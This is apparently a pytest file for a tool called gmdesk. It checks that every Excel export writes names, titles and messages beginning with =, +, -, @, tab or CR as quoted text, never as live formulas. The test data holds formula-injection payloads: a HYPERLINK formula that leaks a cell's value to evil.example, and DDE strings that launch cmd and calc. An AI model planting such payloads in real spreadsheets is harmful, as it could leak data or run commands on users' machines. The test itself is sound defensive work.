"""Issue 12, hole 3: a value beginning with =, +, -, @, tab or CR (a citizen's nickname, an account name, a
title) is written as text in every Excel file gmdesk writes — the ledger, posts, messages (masked or not),
整改台账 and the report's appendix — never as a live formula."""

from __future__ import annotations

import re
import shutil
import sqlite3
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from gmdesk.cli import main
from gmdesk.documents.xlsx import FORMULA_PREFIXES
from gmdesk.services.database import open_database
from gmdesk.services.demo import generate_demo

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
POISON = {
    "accounts": ("name", EVIL),
    "units": ("name", "+1+cmd|' /C calc'!A0"),
    "posts": ("title", "-2+3"),
    "messages": ("writer_name", EVIL),
    "rectification_items": ("problem", "@SUM(1+1)*cmd|' /C calc'!A0"),
}


pytestmark = pytest.mark.sqlite_only  # the poison is written with sqlite3 behind gmdesk's back


@pytest.fixture(scope="module")
def poisoned(template_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GMDESK_HOME", str(tmp_path_factory.mktemp("home")))
        path = tmp_path_factory.mktemp("injection") / "demo.db"
        shutil.copyfile(template_db, path)
        database = open_database(path)
        generate_demo(database, scale="small", seed=3, as_of=date(2026, 11, 20))
        database.close()
        connection = sqlite3.connect(path)
        for table, (column, value) in POISON.items():
            # a few rows each (names are unique: the row id keeps them apart)
            connection.execute(
                f"UPDATE {table} SET {column} = ? || '·' || id WHERE id IN "
                f"(SELECT id FROM {table} ORDER BY id LIMIT 3)",
                (value,),
            )
        connection.execute(
            "UPDATE messages SET content = '\t' || content, confidential = 0 WHERE id IN "
            "(SELECT id FROM messages ORDER BY id LIMIT 3)"
        )
        connection.commit()
        connection.close()
        yield path


_CELL = re.compile(rb'<c r="[A-Z]+\d+"(?: s="(\d+)")? t="inlineStr"><is><t[^>]*>([^<]*)</t>')
_RISKY = tuple(prefix.encode() for prefix in FORMULA_PREFIXES)


def _check(path: Path) -> int:
    """No formula anywhere; every risky text is a text cell with Excel's quote prefix. Returns how many."""
    risky = 0
    with zipfile.ZipFile(path) as archive:
        styles = archive.read("xl/styles.xml")
        cell_xfs = re.search(rb"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.DOTALL)
        quoted = [
            b'quotePrefix="1"' in xf for xf in re.findall(rb"<xf [^>]*?/?>", cell_xfs[1] if cell_xfs else b"")
        ]
        for name in archive.namelist():
            if not name.startswith("xl/worksheets/"):
                continue
            xml = archive.read(name)
            assert not re.search(rb"<f[ >]", xml), f"a formula in {path.name}:{name}"
            for style, text in _CELL.findall(xml):
                text = text.replace(b"&#9;", b"\t").replace(b"&#13;", b"\r").replace(b"&#xD;", b"\r")
                if text.startswith(_RISKY):
                    assert style and quoted[int(style)], (path.name, name, text[:60])
                    risky += 1
    return risky


EXPORTS = {
    "ledger": lambda db, out: ["export", "ledger", "--db", db, "--out", out],
    "ledger by unit": lambda db, out: ["export", "ledger", "--by-unit", "--db", db, "--out", out],
    "posts": lambda db, out: ["export", "posts", "--db", db, "--out", out],
    "messages": lambda db, out: ["export", "messages", "--db", db, "--out", out],
    "messages --mask": lambda db, out: ["export", "messages", "--mask", "--db", db, "--out", out],
    "rectifications": lambda db, out: ["export", "rectifications", "--db", db, "--out", out],
    "report appendix": lambda db, out: [
        "report",
        "--year",
        "2026",
        "--date",
        "2026-11-20",
        "--db",
        db,
        "--out",
        out.replace(".xlsx", ".docx"),
        "--xlsx",
        out,
    ],
}


@pytest.mark.slow
@pytest.mark.parametrize("kind", list(EXPORTS))
def test_no_export_writes_a_live_formula(kind: str, poisoned: Path, tmp_path: Path) -> None:
    out = tmp_path / f"{kind}.xlsx"
    assert main(EXPORTS[kind](str(poisoned), str(out))) == 0
    assert _check(out) > 0  # the poisoned values are there, as text


def test_a_hyperlink_nickname_reads_back_as_the_same_text(tmp_path: Path) -> None:
    from gmdesk.documents.xlsx import SheetSpec, write_workbook

    path = write_workbook(
        tmp_path / "x.xlsx", [SheetSpec("留言", ["留言人", "内容"], [[EVIL, "\r回车"], ["-5", "+86 138"]])]
    )
    assert _check(path) == 4
    book = load_workbook(path, read_only=True)
    assert list(book.active.iter_rows(min_row=2, values_only=True)) == [(EVIL, "\r回车"), ("-5", "+86 138")]
    book.close()
